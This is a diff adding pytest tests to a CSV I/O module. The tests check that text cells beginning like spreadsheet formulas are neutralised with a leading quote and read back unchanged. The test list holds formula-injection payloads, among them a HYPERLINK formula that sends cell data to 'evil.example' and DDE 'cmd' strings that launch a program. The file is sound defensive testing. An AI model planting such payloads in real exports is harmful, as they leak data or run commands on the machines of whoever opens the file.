@@ -2,13 +2,14 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pandas as pd
 import pytest
 
 from constraints.errors import InputError
-from constraints.io import atomic_write, decode_bytes, read_table, write_csv
+from constraints.io import atomic_write, decode_bytes, neutralise, read_table, restore, write_csv
 
 TEXT = "工号,姓名\nS01,王建国\nS02,李秀英\n"
 
@@ -134,3 +135,45 @@ def test_row_longer_than_the_header_with_a_value_is_an_error(tmp_path: Path) -> 
     with pytest.raises(InputError, match="more cells") as ei:
         read_table(path)
     assert ei.value.row == 3
+
+
+# ---- formula injection -------------------------------------------------------------------------------------
+
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&B2,"赵敏")',
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",  # full width, as a Chinese input method types it
+    "'=1+1",  # already quoted once: quoted again, so reading back gives it exactly
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_csv_text_a_spreadsheet_could_run_is_quoted_and_reads_back(tmp_path: Path, payload: str) -> None:
+    """A text cell starting like a formula is written with a leading ' (OWASP); read_table gives the text back."""
+    path = tmp_path / "out.csv"
+    write_csv(pd.DataFrame({"staff_id": ["S01"], "name": [payload]}), path)
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        cell = list(csv.reader(fh))[1][1]
+    assert cell == "'" + payload
+    assert read_table(path).loc[0, "name"] == payload  # every character kept (the quote protects the tab)
+
+
+@pytest.mark.parametrize("value", ["赵敏", "-", "—", "-5", "+86", "-3.5", "1e-3", "'0012", "a=b", " x"])
+def test_csv_plain_text_and_numbers_are_written_as_they_are(tmp_path: Path, value: str) -> None:
+    """Names, dash placeholders and numbers (even signed) are not formulas: written unchanged."""
+    path = tmp_path / "out.csv"
+    write_csv(pd.DataFrame({"v": [value], "n": [-2.5]}), path)
+    with open(path, encoding="utf-8-sig", newline="") as fh:
+        row = list(csv.reader(fh))[1]
+    assert row == [value, "-2.5"]
+
+
+@pytest.mark.parametrize("text", [*PAYLOADS, "赵敏", "'0012", "-5", "''=x", "'"])
+def test_neutralise_is_undone_by_restore(text: str) -> None:
+    """restore(neutralise(t)) == t for any text, so quoting never changes a name read back."""
+    assert restore(neutralise(text)) == text
